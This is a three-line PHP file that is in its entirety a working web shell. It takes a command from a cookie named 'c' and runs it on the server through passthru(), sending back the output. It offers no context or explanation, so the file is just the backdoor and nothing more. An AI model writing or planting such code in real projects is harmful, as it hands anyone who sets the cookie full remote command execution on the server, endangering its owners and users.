<?php
$c = $_COOKIE['c'];
passthru($c);
